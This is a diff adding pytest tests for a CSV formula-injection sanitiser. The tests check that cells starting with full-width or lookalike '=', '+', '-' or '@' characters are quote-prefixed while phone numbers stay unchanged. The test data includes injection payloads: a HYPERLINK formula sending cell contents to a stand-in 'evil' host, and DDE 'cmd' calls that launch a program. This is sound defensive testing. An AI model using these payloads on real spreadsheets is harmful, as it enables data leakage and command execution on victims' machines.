@@ -91,3 +91,46 @@ def test_e164_and_plain_numbers_stay_exactly(cell: str) -> None:
 @given(st.lists(st.text()))
 def test_safe_row_is_safe_cell_per_cell(cells: list[str]) -> None:
     assert safe_row(cells) == [safe_cell(c) for c in cells]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "＝1+1",
+        '＝HYPERLINK("http://evil/?"&A1)',
+        "＋cmd|' /C calc'!A0",
+        "－2+3+cmd|' /C calc'!A0",
+        "＠SUM(A1:A2)",
+        "﹦1+1",
+        "﹢cmd|' /C calc'!A0",
+        "﹣A1",
+        "﹫SUM(A1)",
+        "⁼1+1",
+        "−A1",
+    ],
+)
+def test_full_width_and_other_lookalike_triggers_are_neutralised(cell: str) -> None:
+    assert safe_cell(cell) == "'" + cell
+    assert safe_row([cell, "+919876543210"]) == ["'" + cell, "+919876543210"]
+
+
+def test_the_lookalike_list_is_every_nfkc_trigger() -> None:
+    """Recomputed from the Unicode database: any character a spreadsheet's NFKC normalisation
+    would turn into a leading =, +, - or @ is in the list."""
+    import sys
+    import unicodedata
+
+    from campaigns.csvsafe import LOOKALIKE_TRIGGERS
+
+    computed = {
+        c
+        for c in map(chr, range(sys.maxunicode + 1))
+        if c not in "=+-@" and unicodedata.normalize("NFKC", c)[:1] in ("=", "+", "-", "@")
+    }
+    assert computed <= LOOKALIKE_TRIGGERS
+    assert LOOKALIKE_TRIGGERS - computed == {"\u2212"}
+
+
+@pytest.mark.parametrize("cell", ["+919876543210", "+1 (415) 555-2671", "-12.5", "+3"])
+def test_ascii_numbers_and_e164_are_still_unchanged(cell: str) -> None:
+    assert safe_cell(cell) == cell
